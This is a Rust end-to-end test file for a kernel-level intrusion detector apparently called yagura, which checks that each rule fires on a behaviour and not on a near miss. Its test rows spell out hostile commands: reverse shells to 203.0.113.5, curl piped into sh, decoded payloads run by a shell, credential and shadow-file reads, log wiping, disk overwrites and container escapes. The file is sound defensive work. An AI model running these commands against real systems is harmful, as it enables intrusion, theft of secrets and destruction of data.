//! Our own rules on the running kernel: each fires when a program behaves so, and does not on a near miss. The
//! finer cases are in `rules/cases/`; this shows that real events have the values which the cases give.

use std::{collections::BTreeSet, fs, path::Path};

use end_to_end::{
    cgroups::ContainerGroup,
    rows::{Row, failures},
    scratch::Scratch,
};
use yagura::{
    embedded,
    fields::Source,
    rules::{LoadOptions, RuleMatching, RuleSet, load},
};

const TERMINAL_SHELL: &str = "Shell with a terminal in a container";
const PACKAGES: &str = "Package manager in a container";
const DROPPED: &str = "Program not from the image in a container";
const RUNTIME_SOCKET: &str = "Container runtime socket used from a container";
const CRON: &str = "Cron started in a container";
const SENSITIVE_READ: &str = "Sensitive file read";
const SSH_KEY: &str = "SSH private key read";
const CREDENTIALS: &str = "Cloud or cluster credentials read by a command-line tool";
const SEARCH: &str = "Cloud credentials searched";
const METADATA: &str = "Cloud metadata service contacted by a command-line tool";
const CRONTAB: &str = "Crontab changed";
const AUTHORIZED_KEYS: &str = "SSH authorized keys changed";
const PRELOAD: &str = "Library preload file changed";
const UNIT: &str = "Systemd unit changed";
const STARTUP: &str = "Shell startup file changed";
const LOGIN_RULES: &str = "Login or sudo rules changed";
const MODULE: &str = "Kernel module loaded by an unusual program";
const SERVER_SHELL: &str = "Shell started by a web or database server";
const FILELESS: &str = "Program run from memory";
const SHM: &str = "Program run from shared memory";
const TEMPORARY: &str = "Program run from a temporary folder in a container";
const MINER: &str = "Crypto miner started";
const KERNEL_HOOK: &str = "Kernel hook file written from a container";
const NAMESPACE: &str = "Container process entered another mount namespace";
const NSENTER: &str = "Container runs a command on its node";
const MOUNT: &str = "Sensitive mount in a container";
const CONTAINER_MODULE: &str = "Kernel module loaded from a container";
const REDIRECT: &str = "Standard input or output redirected to a network connection";
const REVERSE_SHELL: &str = "Command line of a reverse shell";
const PACKET_SOCKET: &str = "Packet socket opened in a container";
const POOL: &str = "Connection to a mining pool port";
const LOG: &str = "System log emptied or deleted";
const TRACING: &str = "Process attached to another process";
const MEMORY: &str = "Memory of another process opened for writing";
const SETUID: &str = "Setuid bit set";

/// Rules that no row makes fire, and why.
const NOT_COVERED: &[(&str, &str)] = &[
    (MODULE, "a module that loads would stay in the kernel"),
    ("BPF program loaded by an unexpected program", "the test itself loads some, and is never reported"),
    ("Library forced into a program", "the actor's children get no environment of their choice"),
    ("Privileged container started", PODS),
    ("Container started with the node's files", PODS),
    ("Container started with a runtime's socket", PODS),
    ("Container shares the node's processes", PODS),
];

/// Where rules are shown that need a real runtime.
const PODS: &str = "containers.rs shows it with real pods";

const ROWS: &[Row] = &[
    // Containers. Programs are links in /var/tmp here, which is a finding of its own in a container.
    Row { does: "with cgroup={cgroup} pty -- execve path=/bin/sh -- sh -c :", fires: &[TERMINAL_SHELL] },
    Row { does: "with cgroup={cgroup} pty -- spawn /bin/sh -c :", fires: &[] },
    Row { does: "with pty -- execve path=/bin/sh -- sh -c :", fires: &[] },
    Row { does: "with cgroup={cgroup} -- spawn {bin:apt-get} facts", fires: &[PACKAGES] },
    Row { does: "spawn {bin:apt-get} facts", fires: &[] },
    Row {
        does: "with cgroup={cgroup} -- overlay lower={dir}/lower upper={dir}/upper work={dir}/work merged=/mnt -- execve path=/mnt/above -- above facts",
        fires: &[DROPPED],
    },
    Row {
        does: "with cgroup={cgroup} -- overlay lower={dir}/lower upper={dir}/upper work={dir}/work merged=/mnt -- execve path=/mnt/below -- below facts",
        fires: &[],
    },
    Row { does: "with cgroup={cgroup} -- unix-connect name={dir}/containerd.sock", fires: &[RUNTIME_SOCKET] },
    Row { does: "with cgroup={cgroup} -- unix-connect name={dir}/mysqld.sock", fires: &[] },
    Row { does: "unix-connect name={dir}/containerd.sock", fires: &[] },
    Row { does: "with cgroup={cgroup} -- spawn {bin:crond} facts", fires: &[CRON, TEMPORARY] },
    Row { does: "spawn {bin:crond} facts", fires: &[] },
    // Credentials.
    Row { does: "open path=/etc/shadow", fires: &[SENSITIVE_READ] },
    Row { does: "spawn /bin/cat /etc/shadow", fires: &[SENSITIVE_READ] },
    Row { does: "with cgroup={cgroup} -- spawn /bin/cat /etc/shadow", fires: &[SENSITIVE_READ] },
    Row { does: "spawn {bin:sshd} open path=/etc/shadow", fires: &[SENSITIVE_READ] },
    Row { does: "open path=/etc/passwd", fires: &[] },
    Row { does: "with uid=65534 -- open path=/etc/shadow", fires: &[] },
    Row { does: "open path=.ssh/id_rsa", fires: &[SSH_KEY] },
    Row { does: "open path=.ssh/id_rsa.pub flags=O_RDONLY|O_CREAT", fires: &[] },
    Row { does: "spawn /bin/cat .aws/credentials", fires: &[CREDENTIALS] },
    Row { does: "open path=.aws/credentials", fires: &[] },
    Row { does: "spawn {bin:grep} -r AWS_SECRET_ACCESS_KEY /", fires: &[SEARCH] },
    Row { does: "spawn {bin:grep} -r TODO /", fires: &[] },
    Row {
        does: "with cgroup={cgroup} -- lonely-net ip=169.254.169.254 port=80 -- spawn-as {bin:curl} curl connect ip=169.254.169.254 port=80",
        fires: &[METADATA, TEMPORARY],
    },
    Row {
        does: "with cgroup={cgroup} -- lonely-net ip=169.254.169.254 port=80 -- connect ip=169.254.169.254 port=80",
        fires: &[],
    },
    // Ways to stay. /etc is an overlay here, private to the actor.
    Row { does: "{etc} open path=/etc/cron.d/x flags=O_WRONLY|O_CREAT", fires: &[CRONTAB] },
    Row { does: "{etc} rename path=/etc/x path2=/etc/cron.d/x", fires: &[CRONTAB] },
    Row { does: "{etc} open path=/etc/x flags=O_WRONLY|O_CREAT", fires: &[] },
    Row { does: "open path=.ssh/authorized_keys flags=O_WRONLY|O_CREAT", fires: &[AUTHORIZED_KEYS] },
    Row { does: "open path=.ssh/known_hosts flags=O_WRONLY|O_CREAT", fires: &[] },
    Row { does: "{etc} creat path=/etc/ld.so.preload", fires: &[PRELOAD] },
    Row { does: "{etc} rename path=/etc/x path2=/etc/ld.so.preload", fires: &[PRELOAD] },
    Row { does: "{etc} creat path=/etc/ld.so.cache", fires: &[] },
    Row { does: "{etc} openat2 path=/etc/systemd/system/x.service flags=O_WRONLY|O_CREAT", fires: &[UNIT] },
    Row { does: "{etc} open path=/etc/systemd/system/x.txt flags=O_WRONLY|O_CREAT", fires: &[] },
    Row { does: "{etc} openat path=/etc/profile.d/x.sh flags=O_WRONLY|O_CREAT", fires: &[STARTUP] },
    Row { does: "{etc} openat path=/etc/profile.d/x.sh flags=O_RDONLY|O_CREAT", fires: &[] },
    Row { does: "{etc} open path=/etc/pam.d/x flags=O_WRONLY|O_CREAT", fires: &[LOGIN_RULES] },
    Row { does: "{etc} open path=/etc/pam.conf flags=O_WRONLY|O_CREAT", fires: &[] },
    Row { does: "init_module params=x", fires: &[] },
    // Execution.
    Row { does: "spawn {bin:nginx} spawn /bin/sh -c :", fires: &[SERVER_SHELL] },
    Row { does: "spawn {bin:php-fpm8.2} spawn /bin/sh -c :", fires: &[SERVER_SHELL] },
    Row { does: "spawn {bin:nginx} spawn /bin/true", fires: &[] },
    Row { does: "spawn {bin:ordinary} spawn /bin/sh -c :", fires: &[] },
    Row { does: "exec-memfd path={actor} name=hidden -- innocent facts", fires: &[FILELESS] },
    Row {
        does: "exec-memfd path={actor} name=runc_cloned:/proc/self/exe -- innocent facts",
        fires: &[FILELESS],
    },
    Row { does: "exec-deleted path={dir}/lower/below -- innocent facts", fires: &[] },
    Row { does: "execve path={shm}/program -- {shm}/program facts", fires: &[SHM] },
    Row { does: "with cwd={shm} -- execve path=./script -- ./script", fires: &[SHM] },
    Row { does: "spawn /bin/sh {shm}/script", fires: &[SHM] },
    Row { does: "spawn /bin/ls {shm}/script", fires: &[] },
    Row { does: "with cgroup={cgroup} -- execve path={dir}/lower/below -- below facts", fires: &[TEMPORARY] },
    Row { does: "execve path={dir}/lower/below -- below facts", fires: &[] },
    Row { does: "spawn {bin:xmrig} facts", fires: &[MINER] },
    Row { does: "spawn /bin/true -o stratum+tcp://pool.example.net:3333", fires: &[MINER] },
    Row { does: "spawn {bin:xmrigger} facts", fires: &[] },
    // Escapes.
    Row {
        does: "with cgroup={cgroup} -- open path=release_agent flags=O_WRONLY|O_CREAT",
        fires: &[KERNEL_HOOK],
    },
    Row { does: "with cgroup={cgroup} -- open path=release_agent flags=O_RDONLY|O_CREAT", fires: &[] },
    Row { does: "open path=release_agent flags=O_WRONLY|O_CREAT", fires: &[] },
    Row {
        does: "with cgroup={cgroup} -- setns path=/proc/self/ns/mnt type=CLONE_NEWNS",
        fires: &[NAMESPACE],
    },
    Row { does: "with cgroup={cgroup} -- setns path=/proc/self/ns/mnt", fires: &[NAMESPACE] },
    Row { does: "with cgroup={cgroup} -- setns path=/proc/self/ns/net type=CLONE_NEWNET", fires: &[] },
    Row { does: "setns path=/proc/self/ns/mnt type=CLONE_NEWNS", fires: &[] },
    Row { does: "with cgroup={cgroup} -- spawn {bin:nsenter} -t 1 -m true", fires: &[NSENTER, TEMPORARY] },
    Row { does: "with cgroup={cgroup} -- spawn {bin:nsenter} -t 12 -m true", fires: &[TEMPORARY] },
    Row { does: "spawn {bin:nsenter} -t 1 -m true", fires: &[] },
    Row { does: "with cgroup={cgroup} -- mount source=/dev/null target=empty type=tmpfs", fires: &[MOUNT] },
    Row { does: "with cgroup={cgroup} -- mount source=none target=empty type=tmpfs", fires: &[] },
    Row { does: "mount source=/dev/null target=empty type=tmpfs", fires: &[] },
    Row { does: "with cgroup={cgroup} -- init_module params=x", fires: &[CONTAINER_MODULE] },
    Row { does: "with cgroup={cgroup} -- finit_module path=file params=x", fires: &[CONTAINER_MODULE] },
    // Networks.
    Row { does: "dup2 tcp=4 new=0", fires: &[REDIRECT] },
    Row { does: "with cgroup={cgroup} -- dup3 tcp=6 new=1", fires: &[REDIRECT] },
    Row { does: "dup2 tcp=4 new=77", fires: &[] },
    Row { does: "dup2 path=file new=0", fires: &[] },
    Row {
        does: "spawn {bin:bash} -c bash\\x20-i\\x20>&\\x20/dev/tcp/203.0.113.5/4444\\x200>&1",
        fires: &[REVERSE_SHELL],
    },
    Row { does: "spawn {bin:nc} -e /bin/sh 203.0.113.5", fires: &[REVERSE_SHELL] },
    Row { does: "spawn {bin:bash} -c echo\\x20>\\x20/dev/tcp/localhost/8080", fires: &[] },
    Row { does: "spawn {bin:nc} -z localhost 5432", fires: &[] },
    Row {
        does: "with cgroup={cgroup} -- socket domain=AF_PACKET type=SOCK_RAW protocol=0x300",
        fires: &[PACKET_SOCKET],
    },
    Row {
        does: "with cgroup={cgroup} -- socket domain=AF_INET type=SOCK_RAW protocol=1",
        fires: &[PACKET_SOCKET],
    },
    Row { does: "with cgroup={cgroup} -- socket domain=AF_NETLINK type=SOCK_RAW", fires: &[] },
    Row { does: "with cgroup={cgroup} -- socket domain=AF_INET type=SOCK_STREAM", fires: &[] },
    Row { does: "socket domain=AF_PACKET type=SOCK_RAW protocol=0x300", fires: &[] },
    Row {
        does: "with cgroup={cgroup} -- lonely-net ip=203.0.113.5 port=3333 -- connect ip=203.0.113.5 port=3333",
        fires: &[POOL],
    },
    Row {
        does: "with cgroup={cgroup} -- lonely-net ip=10.1.2.3 port=3333 -- connect ip=10.1.2.3 port=3333",
        fires: &[],
    },
    Row {
        does: "with cgroup={cgroup} -- lonely-net ip=203.0.113.5 port=443 -- connect ip=203.0.113.5 port=443",
        fires: &[],
    },
    // Tracks. /var/log is an overlay here, private to the actor.
    Row { does: "{log} open path=/var/log/auth.log flags=O_WRONLY|O_TRUNC|O_CREAT", fires: &[LOG] },
    Row { does: "{log} unlink path=/var/log/wtmp", fires: &[LOG] },
    Row { does: "{log} unlinkat path=wtmp dirfd=/var/log", fires: &[LOG] },
    Row { does: "{log} open path=/var/log/auth.log flags=O_WRONLY|O_APPEND|O_CREAT", fires: &[] },
    Row { does: "{log} unlink path=/var/log/x", fires: &[] },
    Row { does: "ptrace-child request=PTRACE_ATTACH", fires: &[TRACING] },
    Row { does: "ptrace-child request=PTRACE_SEIZE", fires: &[TRACING] },
    Row { does: "ptrace request=PTRACE_TRACEME", fires: &[] },
    Row { does: "ptrace request=PTRACE_ATTACH pid=4194305", fires: &[] },
    Row { does: "open path=/proc/self/mem flags=O_RDWR", fires: &[MEMORY] },
    Row { does: "open path=/proc/self/mem", fires: &[] },
    Row { does: "chmod path=file mode=04755", fires: &[SETUID] },
    Row { does: "fchmod path=file mode=06755", fires: &[SETUID] },
    Row { does: "fchmodat path=file mode=04755", fires: &[SETUID] },
    Row { does: "chmod path=file mode=0755", fires: &[] },
    Row { does: "chmod path=sub mode=02755", fires: &[] },
    // Tools in containers.
    Row {
        does: "with cgroup={cgroup} -- spawn {bin:kubectl} get pods",
        fires: &["Kubernetes client in a container", TEMPORARY],
    },
    Row { does: "spawn {bin:kubectl} get pods", fires: &[] },
    Row {
        does: "with cgroup={cgroup} -- spawn {bin:crictl} ps",
        fires: &["Container client in a container", TEMPORARY],
    },
    Row { does: "spawn {bin:crictl} ps", fires: &[] },
    Row {
        does: "with cgroup={cgroup} -- spawn {bin:gcc} -o x",
        fires: &["Compiler in a container", TEMPORARY],
    },
    Row { does: "spawn {bin:gcc} -o x", fires: &[] },
    Row {
        does: "with cgroup={cgroup} -- spawn {bin:sshd} -D",
        fires: &["SSH server in a container", TEMPORARY],
    },
    Row {
        does: "with cgroup={cgroup} -- spawn {bin:ssh} root@host",
        fires: &["SSH client in a container", TEMPORARY],
    },
    Row { does: "with cgroup={cgroup} -- spawn {bin:sudo} -i", fires: &["Sudo in a container", TEMPORARY] },
    Row {
        does: "with cgroup={cgroup} -- spawn {bin:gdb} -p 1",
        fires: &["Debugger started in a container", TEMPORARY],
    },
    Row {
        does: "with cgroup={cgroup} -- spawn {bin:rclone} copy",
        fires: &["Cloud storage client in a container", TEMPORARY],
    },
    Row {
        does: "with cgroup={cgroup} -- spawn {bin:curl} --upload-file /data",
        fires: &["File uploaded by a command-line tool", TEMPORARY],
    },
    Row { does: "with cgroup={cgroup} -- spawn {bin:curl} -fsS http://localhost", fires: &[TEMPORARY] },
    Row {
        does: "with cgroup={cgroup} -- spawn {bin:nc} -lvp 4444",
        fires: &["Network listener started by netcat", TEMPORARY],
    },
    Row {
        does: "with cgroup={cgroup} -- spawn {bin:chroot} /host sh",
        fires: &["Container moved itself into its node's folders", TEMPORARY],
    },
    // Tools anywhere.
    Row { does: "spawn {bin:chisel} client", fires: &["Tunnel program started"] },
    Row { does: "spawn {bin:ssh} -N -R 8080:localhost:80 host", fires: &["SSH tunnel opened"] },
    Row { does: "spawn {bin:ssh} host", fires: &[] },
    Row { does: "spawn {bin:nmap} -sS", fires: &["Network scanner started"] },
    Row { does: "spawn {bin:tcpdump} -i any", fires: &["Packet capture started"] },
    Row { does: "spawn {bin:peirates}", fires: &["Tool for break-ins started"] },
    Row { does: "spawn {bin:find} / -perm -4000", fires: &["Search for programs that run as root"] },
    Row { does: "spawn {bin:find} / -perm -0002", fires: &[] },
    Row {
        does: "spawn {bin:sh} -c curl\\x20-s\\x20http://203.0.113.7/x\\x20|\\x20sh",
        fires: &["Download piped into a shell"],
    },
    Row {
        does: "spawn {bin:sh} -c echo\\x20aWQK\\x20|\\x20base64\\x20-d\\x20|\\x20sh",
        fires: &["Encoded command run by a shell"],
    },
    Row {
        does: "spawn {bin:python3} -c exec(base64.b64decode('x'))",
        fires: &["Interpreter runs encoded code from its command line"],
    },
    Row { does: "spawn {bin:python3} -c print(1)", fires: &[] },
    Row { does: "spawn {bin:useradd} x", fires: &["Account or group added"] },
    Row { does: "spawn {bin:dmesg} -C", fires: &["Kernel log emptied"] },
    Row { does: "spawn {bin:dmesg} -T", fires: &[] },
    Row { does: "spawn {bin:journalctl} --vacuum-time=1s", fires: &["Journal cut short"] },
    Row { does: "spawn {bin:systemctl} stop auditd", fires: &["Security service stopped"] },
    Row { does: "spawn {bin:systemctl} status auditd", fires: &[] },
    Row { does: "spawn {bin:iptables} -F", fires: &["Firewall emptied"] },
    Row { does: "spawn {bin:iptables} -F CHAIN", fires: &[] },
    Row { does: "spawn {bin:setenforce} 0", fires: &["Mandatory access control switched off"] },
    Row { does: "spawn {bin:chattr} +i file", fires: &["File made unchangeable or changeable again"] },
    Row { does: "spawn {bin:touch} -r /usr/bin/ls /usr/bin/x", fires: &["Time of a system file changed"] },
    Row { does: "spawn {bin:shred} -u file", fires: &["Files destroyed beyond recovery"] },
    Row { does: "spawn {bin:dd} of=/dev/sda", fires: &["Disk overwritten by a command"] },
    Row { does: "spawn {bin:dd} of=file", fires: &[] },
    Row { does: "spawn {bin:setcap} cap_setuid+ep x", fires: &["Capability given to a file"] },
    Row {
        does: "spawn-as {actor} [kworker/0:1] facts",
        fires: &["Program with the name of a kernel thread"],
    },
    // Secrets. /tmp and /dev are overlays here, private to the actor.
    Row { does: "spawn /bin/cat /proc/self/environ", fires: &["Environment of another process read"] },
    Row { does: "open path=/proc/self/environ", fires: &[] },
    Row { does: "spawn /bin/cat .bash_history", fires: &["Shell history read by a command-line tool"] },
    Row { does: "open path=.bash_history", fires: &[] },
    Row { does: "spawn /bin/cat .netrc", fires: &["Password store read by a command-line tool"] },
    Row { does: "open path=.netrc", fires: &[] },
    Row {
        does: "{tmp} execve path=/tmp/cat -- cat open path=/tmp/krb5cc_1 flags=O_RDONLY|O_CREAT",
        fires: &["Kerberos tickets read by a command-line tool"],
    },
    Row {
        does: "with cgroup={cgroup} -- {mnt} execve path=/mnt/above -- above open path={dir}/serviceaccount/token",
        fires: &[
            "Program not from the image in a container",
            "Service account token read by a dropped program",
        ],
    },
    Row {
        does: "with cgroup={cgroup} -- {mnt} execve path=/mnt/below -- below open path={dir}/serviceaccount/token",
        fires: &[],
    },
    Row {
        does: "with cgroup={cgroup} -- {dev} open path=/dev/vdx flags=O_RDONLY|O_CREAT",
        fires: &["Raw disk read in a container"],
    },
    Row { does: "{dev} open path=/dev/vdx flags=O_RDONLY|O_CREAT", fires: &[] },
    Row {
        does: "with cgroup={cgroup} -- {dev} open path=/dev/vdx flags=O_WRONLY|O_CREAT",
        fires: &["Disk of the node written from a container"],
    },
    Row { does: "{dev} open path=/dev/mem flags=O_RDONLY|O_CREAT", fires: &["Memory of the machine read"] },
    // More ways to stay.
    Row { does: "{etc} open path=/etc/rc.local flags=O_WRONLY|O_CREAT", fires: &["Boot script changed"] },
    Row { does: "{etc} open path=/etc/init.d/x flags=O_WRONLY|O_CREAT", fires: &["Boot script changed"] },
    Row {
        does: "{etc} open path=/etc/udev/rules.d/x.rules flags=O_WRONLY|O_CREAT",
        fires: &["Udev rule changed"],
    },
    Row {
        does: "{etc} open path=/etc/xdg/autostart/x.desktop flags=O_WRONLY|O_CREAT",
        fires: &["Desktop autostart entry written"],
    },
    Row {
        does: "{etc} open path=/etc/apt/apt.conf.d/x flags=O_WRONLY|O_CREAT",
        fires: &["Package manager hook changed"],
    },
    Row {
        does: "{etc} open path=/etc/ld.so.conf.d/x.conf flags=O_WRONLY|O_CREAT",
        fires: &["Library search path changed"],
    },
    Row {
        does: "{etc} open path=/etc/systemd/system-generators/x flags=O_WRONLY|O_CREAT",
        fires: &["Service generator installed"],
    },
    Row {
        does: "{etc} open path=/etc/kubernetes/manifests/x.yaml flags=O_WRONLY|O_CREAT",
        fires: &["Static pod changed"],
    },
    Row {
        does: "{etc} open path=/etc/ssl/certs/x.pem flags=O_WRONLY|O_CREAT",
        fires: &["Trusted certificate added"],
    },
    Row { does: "{etc} open path=/etc/passwd flags=O_WRONLY|O_CREAT", fires: &["Account file changed"] },
    Row { does: "{etc} open path=/etc/hosts flags=O_WRONLY|O_CREAT", fires: &["Names of hosts changed"] },
    Row { does: "{etc} open path=/etc/motd flags=O_WRONLY|O_CREAT", fires: &[] },
    Row { does: "{etc} open path=/etc/kubernetes/x.conf flags=O_WRONLY|O_CREAT", fires: &[] },
    Row { does: "{etc} open path=/etc/apt/sources.list flags=O_WRONLY|O_CREAT", fires: &[] },
    Row { does: "{etc} rename path=/etc/x path2=/etc/shadow", fires: &["Account file changed"] },
    Row {
        does: "{spool} open path=/var/spool/at/a1 flags=O_WRONLY|O_CREAT",
        fires: &["One-time job queued"],
    },
    Row { does: "open path=security/pam_x.so flags=O_WRONLY|O_CREAT", fires: &["Login module replaced"] },
    Row { does: "{usrbin} open path=/usr/bin/x flags=O_WRONLY|O_CREAT", fires: &["System program changed"] },
    Row {
        does: "open path=sitecustomize.py flags=O_WRONLY|O_CREAT",
        fires: &["Python startup hook written"],
    },
    // Kernel and node.
    Row {
        does: "with cgroup={cgroup} -- unshare flags=CLONE_NEWUSER",
        fires: &["User namespace made in a container"],
    },
    Row { does: "unshare flags=CLONE_NEWUSER", fires: &[] },
    Row { does: "with cgroup={cgroup} -- unshare flags=CLONE_NEWUTS", fires: &[] },
    Row {
        does: "with cgroup={cgroup} -- userfaultfd flags=O_CLOEXEC",
        fires: &["Page faults handled by a container"],
    },
    Row {
        does: "with cgroup={cgroup} -- open path=/proc/sys/kernel/domainname flags=O_WRONLY",
        fires: &["Kernel setting changed from a container"],
    },
    Row { does: "open path=/proc/sys/kernel/domainname flags=O_WRONLY", fires: &[] },
    Row {
        does: "mount source=none target=/proc/{test} type=tmpfs",
        fires: &["Process hidden by a mount over /proc"],
    },
    Row {
        does: "symlinkat path=/dev/null path2=.x_history",
        fires: &["Shell history redirected or removed"],
    },
    Row { does: "{tmp} execve path=/tmp/.hidden/x -- x facts", fires: &["Program run from a hidden folder"] },
    Row {
        does: "with cgroup={cgroup} -- {tmp} fchmodat path=/tmp/x mode=0755",
        fires: &["Dropped file made executable"],
    },
    Row { does: "with cgroup={cgroup} -- {tmp} fchmodat path=/tmp/x mode=0644", fires: &[] },
    Row {
        does: "with cgroup={cgroup} -- io_uring_setup entries=4",
        fires: &["Submission ring made in a container"],
    },
    Row { does: "with cgroup={cgroup} -- io_uring_setup entries=0", fires: &[] },
    Row { does: "io_uring_setup entries=4", fires: &[] },
    Row {
        does: "with cgroup={cgroup} -- open-by-handle path=file mount={dir}",
        fires: &["File opened by its handle in a container"],
    },
    Row { does: "open-by-handle path=file mount={dir}", fires: &[] },
    // Opened by io_uring.
    Row { does: "uring-open path=/etc/shadow", fires: &[SENSITIVE_READ] },
    // Connections.
    Row {
        does: "with cgroup={cgroup} -- lonely-net ip=10.1.2.3 port=10250 -- connect ip=10.1.2.3 port=10250",
        fires: &["Kubelet contacted from a container"],
    },
    Row {
        does: "with cgroup={cgroup} -- lonely-net ip=10.1.2.3 port=2379 -- connect ip=10.1.2.3 port=2379",
        fires: &["Cluster database contacted from a container"],
    },
    Row {
        does: "with cgroup={cgroup} -- lonely-net ip=203.0.113.5 port=6667 -- connect ip=203.0.113.5 port=6667",
        fires: &["Connection to an IRC server"],
    },
    Row {
        does: "lonely-net ip=203.0.113.5 port=9001 -- connect ip=203.0.113.5 port=9001",
        fires: &["Connection to a port of the Tor network"],
    },
    Row { does: "lonely-net ip=10.1.2.3 port=10250 -- connect ip=10.1.2.3 port=10250", fires: &[] },
];

fn rules() -> RuleSet {
    let options = LoadOptions { rule_matching: RuleMatching::All, ..LoadOptions::default() };
    let load = load(&embedded::files(), &options);
    load.rules.unwrap_or_else(|| panic!("{:?}", load.diagnostics))
}

/// An overlay over one of the system's folders, of which nothing but the actor sees anything.
fn overlay(dir: &str, on: &str) -> String {
    format!("overlay lower={dir}/lower upper={dir}/upper work={dir}/work merged={on} --")
}

fn prepare(scratch: &mut Scratch, group: &ContainerGroup, shm: &Path) {
    let dir = scratch.path().to_owned();
    for folder in ["lower", "upper", "work", ".ssh", ".aws", "security", "serviceaccount"] {
        fs::create_dir(dir.join(folder)).expect("a folder");
    }
    for folder in [
        "cron.d",
        "profile.d",
        "pam.d",
        "systemd/system",
        "systemd/system-generators",
        "init.d",
        "udev/rules.d",
        "xdg/autostart",
        "apt/apt.conf.d",
        "ld.so.conf.d",
        "kubernetes/manifests",
        "ssl/certs",
        "at",
        ".hidden",
    ] {
        fs::create_dir_all(dir.join("lower").join(folder)).expect("a folder");
    }
    for file in [
        ".ssh/id_rsa",
        ".aws/credentials",
        ".bash_history",
        ".netrc",
        "serviceaccount/token",
        "lower/x",
        "lower/wtmp",
    ] {
        fs::write(dir.join(file), "").expect("a file");
    }
    // Under an overlay of /tmp the actor itself may be hidden, if the repository is there.
    for copy in ["lower/.hidden/x", "lower/cat"] {
        fs::copy(end_to_end::actor(), dir.join(copy)).expect("a copy");
    }
    fs::copy(end_to_end::actor(), dir.join("lower/below")).expect("a copy");
    fs::copy(end_to_end::actor(), dir.join("upper/above")).expect("a copy");
    let text = dir.to_str().expect("text");
    scratch.set("etc", overlay(text, "/etc"));
    for (name, on) in [
        ("log", "/var/log"),
        ("tmp", "/tmp"),
        ("dev", "/dev"),
        ("mnt", "/mnt"),
        ("spool", "/var/spool"),
        ("usrbin", "/usr/bin"),
    ] {
        scratch.set(name, overlay(text, on));
    }
    scratch.set("test", std::process::id().to_string());
    scratch.set("cgroup", group.path().to_str().expect("text"));
    scratch.set("shm", shm.to_str().expect("text"));
}

#[test]
fn the_rows_show_every_rule_of_ours_that_can_be_shown() {
    let rules = rules();
    let of_the_kernel = rules.rules().iter().filter(|rule| rule.source == Source::Syscall);
    let all: BTreeSet<&str> = of_the_kernel.map(|rule| &*rule.name).collect();
    let shown: BTreeSet<&str> = ROWS.iter().flat_map(|row| row.fires.iter().copied()).collect();
    let not_covered: BTreeSet<&str> = NOT_COVERED.iter().map(|(rule, _)| *rule).collect();
    assert_eq!(shown.union(&not_covered).copied().collect::<BTreeSet<_>>(), all);
    assert!(shown.is_disjoint(&not_covered));
}

#[test]
fn our_rules_fire_on_the_behaviour_and_not_on_a_near_miss() {
    if !end_to_end::kernel_tests_run() {
        return;
    }
    let group = ContainerGroup::new().expect("a cgroup");
    let shm = tempfile::Builder::new().prefix("yagura-").tempdir_in("/dev/shm").expect("a folder");
    fs::copy(end_to_end::actor(), shm.path().join("program")).expect("a copy");
    let script = shm.path().join("script");
    fs::write(&script, "#!/bin/sh\n:\n").expect("a script");
    fs::set_permissions(&script, std::os::unix::fs::PermissionsExt::from_mode(0o755)).expect("a mode");
    let found = failures(ROWS, &rules(), |scratch| prepare(scratch, &group, shm.path()));
    assert!(found.is_empty(), "{found}");
}
